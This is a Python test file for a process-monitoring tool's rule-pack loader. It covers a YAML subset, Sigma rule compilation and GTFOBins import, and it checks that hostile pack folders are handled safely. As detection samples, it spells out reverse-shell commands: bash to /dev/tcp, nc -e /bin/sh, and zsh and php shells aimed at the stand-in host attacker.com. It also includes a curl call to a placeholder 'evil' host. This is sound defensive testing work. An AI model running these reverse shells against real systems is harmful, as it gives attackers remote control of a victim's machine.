"""Rule packs without a daemon: the YAML subset, the Sigma subset (each construct, and what is
skipped), GTFOBins front matter, the bundled set, loading from folders and hostile packs."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from coi_tui.monitor import rulepacks
from coi_tui.monitor.rulepacks import RuleError, YamlError, parse_yaml


def sigma(detection: str, level: str = "high", extra: str = "") -> str:
    return (
        "title: Test rule\n"
        "id: test-rule\n"
        "logsource:\n    product: linux\n    category: process_creation\n"
        f"detection:\n{detection}"
        f"level: {level}\n{extra}"
    )


def compiled(text: str) -> rulepacks.SigmaRule:
    (doc,) = parse_yaml(text)
    return rulepacks.compile_sigma(doc, "sigma.test", "sigma", need_logsource=True)


def fires(rule: rulepacks.Rule, argv: list[str], exe: str = "", parent: int = 0) -> bool:
    packs = rulepacks.PackSet()
    packs.add(rule)
    return bool(packs.match(4242, argv, exe, parent))


# --------------------------------------------------------------------------- YAML subset
def test_yaml_subset_as_sigma_and_gtfobins_write_it() -> None:
    text = (
        "title: 'It''s a rule' # comment\n"
        'id: "a\\tb\\u00e9"\n'
        "tags: [attack.execution, 'x y']\n"
        "description: a plain scalar\n"
        "    folded over two lines\n"
        "literal: |\n  line one\n   indented\n\n  after blank\n"
        "folded: >-\n  one\n  two\n"
        "functions:\n  reverse-shell:\n  - code: |-\n      nc -e sh\n    contexts:\n      suid:\n"
        "empty:\n"
        "numbers: 12\n"
        "flag: true\n"
        "url: http://x:8080/a\n"
    )
    (doc,) = parse_yaml(text)
    assert doc["title"] == "It's a rule"
    assert doc["id"] == "a\tb\u00e9"
    assert doc["tags"] == ["attack.execution", "x y"]
    assert doc["description"] == "a plain scalar folded over two lines"
    assert doc["literal"] == "line one\n indented\n\nafter blank\n"
    assert doc["folded"] == "one two"
    assert doc["functions"] == {"reverse-shell": [{"code": "nc -e sh", "contexts": {"suid": None}}]}
    assert doc["empty"] is None
    assert doc["numbers"] == 12 and doc["flag"] is True
    assert doc["url"] == "http://x:8080/a"


def test_yaml_lists_of_maps_and_nested_lists() -> None:
    (doc,) = parse_yaml("a:\n    - x: 1\n      y: 2\n    - - 3\n      - 4\n    -\n      z: 5\n")
    assert doc == {"a": [{"x": 1, "y": 2}, [3, 4], {"z": 5}]}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a: &anchor x\nb: *anchor\n", "anchors"),
        ("a: !!python/object x\n", "tags"),
        ("a: 1\na: 2\n", "duplicate key"),
        ("a:\n\tb: 1\n", "tab"),
        ("a: 'open\n", "unterminated"),
        ("a: 1\n   b: 2\n", "indentation"),
        ("a: {b: 1}\n", "flow maps"),
        ("a: [[1]]\n", "nested flow"),
        ('a: "\\q"\n', "bad escape"),
    ],
)
def test_yaml_outside_the_subset_is_a_one_line_error(text: str, reason: str) -> None:
    with pytest.raises(YamlError) as caught:
        parse_yaml(text)
    assert reason in str(caught.value) and "\n" not in str(caught.value)


def test_yaml_deep_nesting_is_refused_not_a_recursion_error() -> None:
    deep = "".join(f"{' ' * i}k{i}:\n" for i in range(200)) + " " * 200 + "x: 1\n"
    with pytest.raises(YamlError, match="nested deeper"):
        parse_yaml(deep)
    lists = "a:\n" + "\n".join("  " * i + "-" for i in range(1, 200)) + " 1\n"
    with pytest.raises(YamlError, match="nested deeper"):
        parse_yaml(lists)


def test_yaml_is_linear_on_a_large_input() -> None:
    many = "rules:\n" + "".join(f"  - key{i}: 'value {i} # not a comment'\n" for i in range(20000))
    started = time.process_time()
    (doc,) = parse_yaml(many)
    assert len(doc["rules"]) == 20000 and doc["rules"][7] == {"key7": "value 7 # not a comment"}
    assert time.process_time() - started < 2.0


def test_yaml_documents() -> None:
    assert parse_yaml("---\na: 1\n---\nb: 2\n...\n# trailing comment\n") == [{"a": 1}, {"b": 2}]


# --------------------------------------------------------------------------- Sigma subset
def test_sigma_map_selection_is_an_and_of_fields() -> None:
    rule = compiled(
        sigma(
            "    selection:\n"
            "        Image|endswith: '/bash'\n"
            "        CommandLine|contains|all:\n"
            "            - ' -i'\n"
            "            - '/dev/tcp/'\n"
            "    condition: selection\n",
            level="critical",
        )
    )
    assert rule.level == "critical" and rule.names == frozenset({"bash"})
    assert fires(rule, ["bash", "-c", "bash -i >& /DEV/TCP/10.0.0.1/1 0>&1"], "/usr/bin/bash")
    assert not fires(rule, ["bash", "-c", "cat /dev/tcp/x/1"], "/usr/bin/bash")  # not all
    assert not fires(rule, ["dash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"], "/usr/bin/dash")


def test_sigma_list_selection_is_an_or_of_maps_and_value_lists_are_or() -> None:
    rule = compiled(
        sigma(
            "    selection:\n"
            "        - Image|endswith: '/socat'\n"
            "          CommandLine|contains: 'exec:'\n"
            "        - CommandLine|startswith:\n"
            "            - 'telnet '\n"
            "            - 'busybox telnet'\n"
            "    condition: selection\n"
        )
    )
    assert rule.names is None  # the second alternative pins no executable
    assert fires(rule, ["socat", "tcp:h:1", "exec:sh"], "/usr/bin/socat")
    assert fires(rule, ["busybox", "telnet", "h", "1"], "/bin/busybox")
    assert not fires(rule, ["socat", "-", "tcp:h:1"], "/usr/bin/socat")


@pytest.mark.parametrize(
    ("condition", "argv", "expected"),
    [
        ("sel and not filter", ["curl", "http://evil/x"], True),
        ("sel and not filter", ["curl", "http://localhost/x"], False),
        ("sel1 or sel2", ["wget", "x"], True),
        ("1 of sel*", ["wget", "x"], True),
        ("all of sel*", ["curl", "x"], False),
        ("all of sel*", ["curl", "wget"], True),
        ("1 of them", ["ls", "localhost"], True),
        ("all of them", ["curl", "wget", "localhost"], True),
        ("(sel1 or sel2) and not filter", ["wget", "localhost"], False),
        ("not (sel1 or filter)", ["wget"], True),
    ],
)
def test_sigma_conditions(condition: str, argv: list[str], expected: bool) -> None:
    rule = compiled(
        sigma(
            "    sel1:\n        CommandLine|contains: curl\n"
            "    sel2:\n        CommandLine|contains: wget\n"
            "    sel:\n        CommandLine|startswith: curl\n"
            "    filter:\n        CommandLine|contains: localhost\n"
            f"    condition: {condition}\n"
        )
    )
    assert fires(rule, argv) is expected


def test_sigma_wildcards_escapes_and_case() -> None:
    rule = compiled(
        sigma(
            "    selection:\n"
            "        CommandLine:\n"
            "            - 'chmod ?755 /tmp/*'\n"
            "            - 'literal\\*star'\n"
            "    condition: selection\n"
        )
    )
    assert fires(rule, ["CHMOD", "4755", "/tmp/x"])
    assert not fires(rule, ["chmod", "755", "/tmp/x"])  # ? is exactly one character
    assert not fires(rule, ["sudo", "chmod", "4755", "/tmp/x"])  # no modifier: the whole field
    assert fires(rule, ["literal*star"])
    assert not fires(rule, ["literalXstar"])


def test_sigma_parent_image_is_the_parent_executable() -> None:
    own = os.path.basename(rulepacks.executable(os.getpid()))
    rule = compiled(
        sigma(f"    selection:\n        ParentImage|endswith: '/{own}'\n    condition: selection\n")
    )
    assert fires(rule, ["sh", "-c", "id"], "/bin/sh", parent=os.getpid())
    assert not fires(rule, ["sh", "-c", "id"], "/bin/sh", parent=0)


def test_sigma_levels_map_to_ours() -> None:
    for level, ours in [
        ("informational", "info"),
        ("low", "info"),
        ("medium", "warning"),
        ("high", "high"),
        ("critical", "critical"),
    ]:
        text = sigma("    s:\n        CommandLine|contains: x\n    condition: s\n", level=level)
        assert compiled(text).level == ours


@pytest.mark.parametrize(
    ("detection", "extra", "reason"),
    [
        ("    s:\n        CommandLine|re: 'a.*b'\n    condition: s\n", "", "modifier 're'"),
        ("    s:\n        CommandLine|base64: x\n    condition: s\n", "", "modifier 'base64'"),
        ("    s:\n        User: root\n    condition: s\n", "", "field 'User'"),
        ("    s:\n        - keyword\n    condition: s\n", "", "keyword lists"),
        ("    s:\n        Image: null\n    condition: s\n", "", "null"),
        ("    s:\n        Image: x\n    condition: s | count() > 5\n", "", "aggregations"),
        ("    s:\n        Image: x\n    condition: other\n", "", "no selection 'other'"),
        ("    s:\n        Image: x\n    condition: (s\n", "", "unbalanced"),
        ("    s:\n        Image: x\n    timeframe: 5m\n    condition: s\n", "", "timeframe"),
        ("    s:\n        Image|startswith|endswith: x\n    condition: s\n", "", "together"),
        ("    s:\n        Image: x\n    condition: s\n", "status: deprecated\n", "deprecated"),
    ],
)
def test_unsupported_sigma_is_skipped_with_its_reason(
    detection: str, extra: str, reason: str
) -> None:
    with pytest.raises(RuleError, match=reason.replace("(", r"\(").replace("|", r"\|")):
        compiled(sigma(detection, extra=extra))


def test_sigma_other_logsource_and_unknown_level_are_skipped() -> None:
    text = sigma("    s:\n        Image: x\n    condition: s\n").replace(
        "process_creation", "network_connection"
    )
    with pytest.raises(RuleError, match="process_creation"):
        compiled(text)
    with pytest.raises(RuleError, match="level"):
        compiled(sigma("    s:\n        Image: x\n    condition: s\n", level="severe"))


def test_glob_matching_is_linear_on_hostile_input() -> None:
    rule = compiled(
        sigma("    s:\n        CommandLine|contains: '" + "a*" * 15 + "b'\n    condition: s\n")
    )
    started = time.process_time()
    assert not fires(rule, ["a" * 60000])
    assert time.process_time() - started < 1.0
    with pytest.raises(RuleError, match="wildcards"):
        compiled(sigma("    s:\n        CommandLine: '" + "a*" * 40 + "'\n    condition: s\n"))


# --------------------------------------------------------------------------- GTFOBins
GTFO_NEW = (
    "---\nfunctions:\n  reverse-shell:\n  - code: |-\n"
    "      nc -e /bin/sh attacker.com 12345\n    contexts:\n      suid:\n        shell: true\n"
    "  shell:\n  - code: nc\n...\n"
)
GTFO_OLD = (
    "---\nfunctions:\n  reverse-shell-interactive:\n"
    "    - description: Run `nc -l -p 12345` on the attacker box to receive the shell.\n"
    "      code: |\n        export RHOST=attacker.com\n        export RPORT=12345\n"
    "        zsh -c 'zmodload zsh/net/tcp && ztcp $RHOST $RPORT && zsh >&$REPLY 0>&$REPLY'\n"
    "---\n\nMarkdown text.\n"
)


def test_gtfobins_front_matter_both_layouts_reduced_to_distinctive_tokens(tmp_path: Path) -> None:
    folder = tmp_path / "gtfobins" / "_gtfobins"
    folder.mkdir(parents=True)
    (folder / "nc").write_text(GTFO_NEW)
    (folder / "zsh.md").write_text(GTFO_OLD)
    (folder / "cat.md").write_text("---\nfunctions:\n  file-read:\n    - code: cat f\n---\n")
    (folder / ".dir-locals.el").write_text("(junk")
    packs = rulepacks.load_packs(None, tmp_path / "gtfobins", bundled=False)
    assert packs.counts["gtfobins"] == 2 and not packs.skipped
    by_id = {r.rule_id: r for r in packs.rules}
    nc = by_id["gtfobins.nc"]
    assert isinstance(nc, rulepacks.TokenRule)
    assert set(nc.examples[0]) == {"-e", "/bin/sh"}
    assert fires(nc, ["nc", "-e", "/bin/sh", "10.1.1.1", "4444"], "/usr/bin/nc.traditional")
    assert not fires(nc, ["nc", "-zv", "db", "5432"], "/usr/bin/nc.traditional")
    zsh = by_id["gtfobins.zsh"]
    assert isinstance(zsh, rulepacks.TokenRule)
    assert not any("rhost" in t or "12345" in t for e in zsh.examples for t in e)
    assert fires(zsh, ["zsh", "-c", "zmodload zsh/net/tcp; ztcp 10.0.0.2 9 && zsh >&$REPLY"])
    assert not fires(zsh, ["zsh", "-c", "echo zmodload"])
    assert packs.match(1, ["nc", "-e", "/bin/sh", "h", "1"], "")[0].level == "high"


def test_gtfobins_placeholders_in_any_spelling_are_not_tokens() -> None:
    code = (
        "export RHOST=attacker.com\nexport RPORT=12345\n"
        'php -r \'$sock=fsockopen(getenv("RHOST"),getenv("RPORT"));exec("/bin/sh -i <&3");\''
    )
    words = rulepacks.example_tokens(code, "php")
    assert "fsockopen" in words and not any("rhost" in w or "rport" in w for w in words)


def test_gtfobins_bad_front_matter_is_skipped(tmp_path: Path) -> None:
    folder = tmp_path / "_gtfobins"
    folder.mkdir()
    (folder / "broken").write_text("no front matter\n")
    (folder / "open.md").write_text("---\nfunctions:\n  reverse-shell:\n")
    packs = rulepacks.load_packs(None, tmp_path, bundled=False)
    reasons = {s.path: s.reason for s in packs.skipped}
    assert reasons == {
        "_gtfobins/broken": "no YAML front matter",
        "_gtfobins/open.md": "unterminated YAML front matter",
    }


# --------------------------------------------------------------------------- loading
RULE = sigma(
    "    selection:\n        Image|endswith: '/true'\n"
    "        CommandLine|contains: 'rulepack-probe'\n    condition: selection\n"
)


def test_sigma_layout_flat_folder_ids_and_threat_shape(tmp_path: Path) -> None:
    layout = tmp_path / "repo" / "rules" / "linux" / "process_creation" / "sub"
    layout.mkdir(parents=True)
    (layout / "probe.yml").write_text(RULE)
    (tmp_path / "repo" / "rules" / "windows.yml").write_text(RULE.replace("test-rule", "w"))
    flat = tmp_path / "flat"
    flat.mkdir()
    (flat / "no-id.yaml").write_text(RULE.replace("id: test-rule\n", ""))
    (flat / "bad.yml").write_text(RULE.replace("level: high", "level: severe"))
    (flat / "notes.txt").write_text("ignored")
    repo = rulepacks.load_packs(tmp_path / "repo", None, bundled=False)
    assert [r.rule_id for r in repo.rules] == ["sigma.test-rule"]  # only the layout's subtree
    assert repo.files["sigma"] == ["rules/linux/process_creation/sub/probe.yml"]
    packs = rulepacks.load_packs(flat, None, bundled=False)
    assert [r.rule_id for r in packs.rules] == ["sigma.no-id"]
    assert [(s.path, s.reason.split(" is")[0]) for s in packs.skipped] == [
        ("bad.yml", "level 'severe'")
    ]
    assert packs.summary() == "rule packs: 1 sigma, 0 gtfobins, 0 bundled, 1 skipped"
    (found,) = packs.match(7, ["true", "rulepack-probe", "x" * 400], "/usr/bin/true", 0)
    assert found.rule_id == "sigma.no-id" and found.category == "proc_event"
    process = found.evidence["process"]
    assert process["pid"] == 7 and len(process["command"]) == 300 and process["pattern"]


def test_bundled_pack_loads_whole_and_fires() -> None:
    packs = rulepacks.load_packs(None, None)
    assert packs.counts["bundled"] >= 5 and not packs.skipped
    hits = packs.match(1, ["modprobe", "nf_tables"], "/usr/bin/kmod")
    assert [t.rule_id for t in hits] == ["bundled.kernel-module-load"]
    assert packs.match(1, ["ls", "-la"], "/usr/bin/ls") == []
    assert packs.match(1, ["modprobe", "--list"], "/usr/bin/kmod") == []
    token = packs.match(1, ["gh", "auth", "token"], "/usr/bin/gh")
    assert [t.rule_id for t in token] == ["bundled.token-printed"]
    shown = packs.match(1, ["gh", "auth", "status", "--show-token"], "/usr/bin/gh")
    assert [t.rule_id for t in shown] == ["bundled.token-printed"]
    assert packs.match(1, ["gh", "auth", "status"], "/usr/bin/gh") == []
    assert packs.match(1, ["gh", "pr", "list"], "/usr/bin/gh") == []


def test_hostile_folder_symlinks_big_files_fifos_and_caps(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "secret.yml"
    secret.write_text(RULE)
    pack = tmp_path / "pack"
    pack.mkdir()
    (pack / "link.yml").symlink_to(secret)
    (pack / "linked-dir").symlink_to(tmp_path)
    (pack / "big.yml").write_bytes(b"a: b\n" * (rulepacks.MAX_FILE_BYTES // 4))
    os.mkfifo(pack / "fifo.yml")
    os.link(secret, pack / "hard.yml")
    (pack / "binary.yml").write_bytes(b"\xff\xfe")
    deep = pack
    for i in range(rulepacks.MAX_DIR_DEPTH + 2):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    (deep / "deep.yml").write_text(RULE)
    started = time.monotonic()
    packs = rulepacks.load_packs(pack, None, bundled=False)
    assert time.monotonic() - started < 10.0  # the FIFO was never waited on
    reasons = {s.path: s.reason for s in packs.skipped}
    assert reasons["link.yml"] == "a symbolic link (not followed)"
    assert "KiB" in reasons["big.yml"] and "regular" in reasons["fifo.yml"]
    assert "hard link" in reasons["hard.yml"] and "UTF-8" in reasons["binary.yml"]
    assert any("deeper than" in r for r in reasons.values())
    assert packs.rules == []  # the linked folder and file were never read
    # caps: files read and rules kept
    many = tmp_path / "many"
    many.mkdir()
    for i in range(30):
        (many / f"r{i:02}.yml").write_text(RULE.replace("test-rule", f"r{i}"))
    monkeypatch.setattr(rulepacks, "MAX_FILES", 20)
    monkeypatch.setattr(rulepacks, "MAX_RULES", 10)
    packs = rulepacks.load_packs(many, None, bundled=False)
    assert packs.counts["sigma"] == 10
    assert "more than 10 rules" in packs.skipped[-1].reason
    monkeypatch.setattr(rulepacks, "MAX_RULES", 100)
    packs = rulepacks.load_packs(many, None, bundled=False)
    assert packs.counts["sigma"] == 20
    assert "more than 20 files" in packs.skipped[-1].reason
    monkeypatch.setattr(rulepacks, "MAX_ENTRIES", 5)
    packs = rulepacks.load_packs(many, None, bundled=False)
    assert packs.counts["sigma"] == 5 and "more than 5 entries" in packs.skipped[0].reason
    wide = tmp_path / "wide"
    for i in range(6):
        (wide / f"d{i}").mkdir(parents=True)
        (wide / f"d{i}" / "r.yml").write_text(RULE.replace("test-rule", f"d{i}"))
    monkeypatch.setattr(rulepacks, "MAX_DIRS", 4)
    packs = rulepacks.load_packs(wide, None, bundled=False)
    assert packs.counts["sigma"] == 3 and "more than 4 folders" in packs.skipped[-1].reason


def test_a_symlinked_pack_folder_is_refused(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (real / "r.yml").write_text(RULE)
    (tmp_path / "sigma").symlink_to(real)
    packs = rulepacks.load_packs(tmp_path / "sigma", tmp_path / "absent", bundled=False)
    assert packs.rules == []
    assert packs.sources["sigma"].state == "error"
    assert packs.sources["gtfobins"].state == "absent"
    assert "folder not read" in packs.skipped[0].reason


def test_hundred_thousand_rules_in_one_file_stay_bounded(tmp_path: Path) -> None:
    folder = tmp_path / "pack"
    folder.mkdir()
    body = "".join(f"    s{i}:\n        CommandLine|contains: v{i}\n" for i in range(100000))
    (folder / "huge.yml").write_text(sigma(body + "    condition: 1 of them\n"))
    started = time.process_time()
    packs = rulepacks.load_packs(folder, None, bundled=False)
    assert time.process_time() - started < 2.0
    assert packs.rules == [] and "KiB" in packs.skipped[0].reason


def test_resolve_dir() -> None:
    home = Path("/srv/coi-home")
    assert rulepacks.resolve_dir("~/.coi/sigma", home) == home / "sigma"
    assert rulepacks.resolve_dir("/opt/sigma", home) == Path("/opt/sigma")
    assert rulepacks.resolve_dir("~/packs", home, (0, 0)) == Path("/root/packs")
    with pytest.raises(ValueError, match="absolute"):
        rulepacks.resolve_dir("packs/sigma", home)
    settings = SimpleNamespace(sigma_dir="relative", gtfobins_dir="~/.coi/gtfobins")
    packs, errors = rulepacks.load_configured(settings, home)
    assert errors == [
        "detection.sigma_dir: must be an absolute path or start with ~/ (got 'relative')"
    ]
    assert packs.sources["gtfobins"].path == str(home / "gtfobins")


def git_repo(path: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    for argv in (
        ["init", "-q"],
        ["add", "."],
        ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "pack"],
    ):
        subprocess.run(["git", "-C", str(path), *argv], check=True, capture_output=True)
    return path


def test_update_patterns_and_rules_update_import_validated_packs(tmp_path: Path) -> None:
    """`coi update patterns` clones the configured sources (local repositories here: no
    network) and imports them; `coi monitor rules update --from` imports a folder."""
    gtfobins = git_repo(tmp_path / "gtf", {"_gtfobins/nc": GTFO_NEW, "README.md": "x"})
    sigma_repo = git_repo(
        tmp_path / "sig",
        {"rules/linux/process_creation/p.yml": RULE, "rules/windows/w.yml": RULE},
    )
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text(
        f'[detection]\ngtfobins_source = "{gtfobins}"\nsigma_source = "{sigma_repo}"\n'
    )
    env = {**os.environ, "COI_HOME": str(home)}
    env.pop("COI_CONFIG", None)

    def coi(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "coi_tui.cli.main", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            cwd=tmp_path,
        )

    dry = coi("update", "patterns", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert "gtfobins: would import 1 rules" in dry.stdout and "sigma: would import 1" in dry.stdout
    assert not (home / "gtfobins").exists() and not (home / "sigma").exists()
    done = coi("update", "patterns")
    assert done.returncode == 0, done.stderr
    assert (home / "gtfobins" / "_gtfobins" / "nc").read_text() == GTFO_NEW
    assert sorted(p.name for p in (home / "sigma").rglob("*.yml")) == ["p.yml"]
    listed = json.loads(coi("monitor", "rules", "list", "--json").stdout)
    assert listed["counts"]["sigma"] == 1 and listed["counts"]["gtfobins"] == 1
    # a folder import replaces the pack whole; an unusable one changes nothing
    flat = tmp_path / "flat"
    flat.mkdir()
    (flat / "a.yml").write_text(RULE.replace("test-rule", "a"))
    (flat / "b.yml").write_text(RULE.replace("level: high", "level: severe"))
    imported = coi("monitor", "rules", "update", "--from", str(flat))
    assert imported.returncode == 0, imported.stderr
    assert "imported 1 sigma rules from 1 files" in imported.stdout and "b.yml" in imported.stdout
    assert sorted(p.name for p in (home / "sigma").rglob("*.yml")) == ["a.yml"]
    (flat / "a.yml").write_text("title: [broken\n")
    refused = coi("monitor", "rules", "update", "--from", str(flat))
    assert refused.returncode == 1 and refused.stderr.startswith("Error: rules update: no usable")
    assert len(refused.stderr.strip().splitlines()) == 1
    assert sorted(p.name for p in (home / "sigma").rglob("*.yml")) == ["a.yml"]
    broken = home / "config.toml"
    broken.write_text('[detection]\ngtfobins_source = "/nonexistent/repo"\nsigma_source = "-x"\n')
    failed = coi("update", "patterns")
    assert failed.returncode == 1
    assert [line.split(":")[0] for line in failed.stderr.splitlines()] == ["gtfobins", "sigma"]


def test_the_anchor_lookup_never_drops_a_rule_that_matches() -> None:
    """PackSet.match tests a rule that pins no executable only when one of its anchor words'
    first three characters is in the text: on random rules and command lines it finds
    exactly what testing every rule finds."""
    rng = random.Random(17)
    words = ["curl", "wget", "/tmp/", "sh -c", "base64", "nc", "-e", "zz", "a?c", "/dev/tcp/"]
    modifiers = ["", "|contains", "|startswith", "|endswith", "|contains|all"]
    packs = rulepacks.PackSet()
    for number in range(300):
        selections = ""
        for name in ("sel1", "sel2", "filter"):
            field_name = rng.choice(["CommandLine", "CommandLine", "Image"])
            stars = [(rng.choice(["*", ""]), rng.choice(["*", ""])) for _ in range(3)]
            values = "".join(
                f"            - '{head}{rng.choice(words)}{tail}'\n"
                for head, tail in stars[: rng.randint(1, 3)]
            )
            selections += f"    {name}:\n        {field_name}{rng.choice(modifiers)}:\n{values}"
        condition = rng.choice(
            [
                "sel1",
                "sel1 and sel2",
                "sel1 or sel2",
                "1 of sel*",
                "sel1 and not filter",
                "not sel2",
            ]
        )
        (doc,) = parse_yaml(sigma(f"{selections}    condition: {condition}\n"))
        packs.add(rulepacks.compile_sigma(doc, f"r{number}", "sigma", need_logsource=True))
    keyed = {id(r) for rules in packs.by_trigram.values() for r in rules}
    assert len(keyed) > 100 and len(packs.generic) > 50  # both kinds of rule are drawn
    for _ in range(400):
        argv = [rng.choice(["sh", "bash", "curl", "python3"])] + [
            rng.choice([*words, "x", "ls", "/tmp/a", "abc"]) for _ in range(rng.randint(0, 6))
        ]
        exe = rng.choice(["/usr/bin/curl", "/usr/bin/wget", "/bin/sh", ""])
        found = {t.rule_id for t in packs.match(1, argv, exe, 0)}
        values = rulepacks.Fields(exe or argv[0], argv, 0)
        assert found == {r.rule_id for r in packs.rules if r.test(values)}, argv
